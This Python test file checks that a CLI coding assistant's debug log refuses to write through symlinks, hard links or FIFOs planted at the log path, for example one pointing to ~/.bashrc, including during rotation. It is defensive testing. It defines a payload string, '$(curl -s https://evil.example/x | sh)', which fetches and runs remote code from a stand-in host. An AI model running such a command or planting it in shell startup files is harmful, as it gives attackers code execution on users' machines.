"""The debug log holds what the model asked for: it is appended only to a regular file of its own.
A symlink there (`debug.log -> ~/.bashrc`), a hard link to another file, a FIFO: replaced by a new
log, nothing written through them, nothing blocks; a folder there: no log this session, one
warning. Rotation renames entries, so a link at `debug.log.1` is replaced, never written through."""

from __future__ import annotations

import logging
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from mini_claude.core import config
from mini_claude.core.debug_log import LOG_MAX_BYTES, OwnLogFile
from tests.adversarial.cases import case
from tests.cli_harness import Cli
from tests.fake_api import FakeAnthropic, text_reply
from tests.kit import must_finish_within

BASHRC = "# ~/.bashrc\nexport PATH=$HOME/bin:$PATH\n"
PAYLOAD = "$(curl -s https://evil.example/x | sh)"


@pytest.fixture
def bashrc(isolated_env: Path) -> Path:
    path = isolated_env / ".bashrc"
    path.write_text(BASHRC)
    return path


@pytest.fixture
def log_path(isolated_env: Path) -> Path:
    path = config.log_file()
    path.parent.mkdir(parents=True)
    return path


@pytest.fixture
def handlers() -> Iterator[list[logging.Handler]]:
    made: list[logging.Handler] = []
    yield made
    for handler in made:
        handler.close()


def record(text: str) -> logging.LogRecord:
    return logging.LogRecord("mini_claude", logging.INFO, __file__, 1, text, None, None)


def plant(kind: str, log: Path, bashrc: Path) -> None:
    if kind == "symlink":
        log.symlink_to(bashrc)
    elif kind == "dangling_symlink":
        log.symlink_to(bashrc.parent / ".profile")
    elif kind == "hard_link":
        os.link(bashrc, log)
    elif kind == "fifo":
        os.mkfifo(log)


KINDS = ["symlink", "dangling_symlink", "hard_link", "fifo"]


@case(
    "paths",
    "debug.log a symlink to ~/.bashrc (or dangling), a hard link to it, a FIFO: replaced by a "
    "regular log of its own, ~/.bashrc unchanged, nothing blocks",
)
@pytest.mark.parametrize("kind", KINDS)
def test_odd_entries_at_the_log_are_replaced(
    log_path: Path, bashrc: Path, handlers: list[logging.Handler], kind: str
) -> None:
    plant(kind, log_path, bashrc)

    with must_finish_within(10):
        handler = OwnLogFile(log_path)
        handlers.append(handler)
        handler.emit(record(f"read_file {PAYLOAD}"))
        handler.flush()

    assert bashrc.read_text() == BASHRC and not (bashrc.parent / ".profile").exists()
    info = os.lstat(log_path)
    assert stat.S_ISREG(info.st_mode) and info.st_nlink == 1 and stat.S_IMODE(info.st_mode) == 0o600
    assert PAYLOAD in log_path.read_text()


@case(
    "paths",
    "rotation with debug.log.1 a symlink to ~/.bashrc, or debug.log swapped for one while open: the "
    "links are moved, never written through; logging goes on in a new file",
)
@pytest.mark.parametrize("swap", ["backup_is_a_link", "log_swapped_while_open"])
def test_rotation_renames_never_writes_through(
    log_path: Path, bashrc: Path, handlers: list[logging.Handler], swap: str
) -> None:
    log_path.write_text("x" * (LOG_MAX_BYTES - 10))
    backup = Path(f"{log_path}.1")
    handler = OwnLogFile(log_path)
    handlers.append(handler)
    if swap == "backup_is_a_link":
        backup.symlink_to(bashrc)
    else:
        log_path.unlink()
        log_path.symlink_to(bashrc)

    handler.emit(record(f"after rotation {PAYLOAD}"))
    handler.flush()

    assert bashrc.read_text() == BASHRC
    assert stat.S_ISREG(os.lstat(log_path).st_mode) and "after rotation" in log_path.read_text()
    if swap == "backup_is_a_link":
        assert stat.S_ISREG(os.lstat(backup).st_mode) and backup.stat().st_size >= LOG_MAX_BYTES - 10


def tool_free_run(cli: Cli, api_env: FakeAnthropic) -> tuple[int, str]:
    api_env.stream_replies.append(text_reply("done"))
    with must_finish_within(40):
        done = cli.run("-p", f"say {PAYLOAD}", timeout=30)
    return done.returncode, done.stderr


@case(
    "paths",
    "mini-claude -p with debug.log a symlink to ~/.bashrc, or a FIFO: finishes, ~/.bashrc unchanged, "
    "the log a regular file holding the run",
)
@pytest.mark.parametrize("kind", ["symlink", "fifo"])
def test_print_mode_with_an_odd_log(
    log_path: Path, bashrc: Path, api_env: FakeAnthropic, project_dir: Path, kind: str
) -> None:
    plant(kind, log_path, bashrc)

    returncode, stderr = tool_free_run(Cli(project_dir), api_env)

    assert returncode == 0, stderr
    assert bashrc.read_text() == BASHRC
    assert stat.S_ISREG(os.lstat(log_path).st_mode) and "model client ready" in log_path.read_text()


@case(
    "paths",
    "mini-claude -p with a folder where debug.log goes: the run works, one warning line says the log "
    "is not written, the folder is untouched",
)
def test_print_mode_with_a_folder_at_the_log(
    log_path: Path, api_env: FakeAnthropic, project_dir: Path
) -> None:
    log_path.mkdir()
    (log_path / "keep.txt").write_text("mine\n")

    returncode, stderr = tool_free_run(Cli(project_dir), api_env)

    assert returncode == 0, stderr
    assert [line for line in stderr.splitlines() if "debug log" in line] == [
        f"mini-claude: not writing the debug log {log_path}: a folder is in its place"
    ]
    assert sorted(os.listdir(log_path)) == ["keep.txt"]
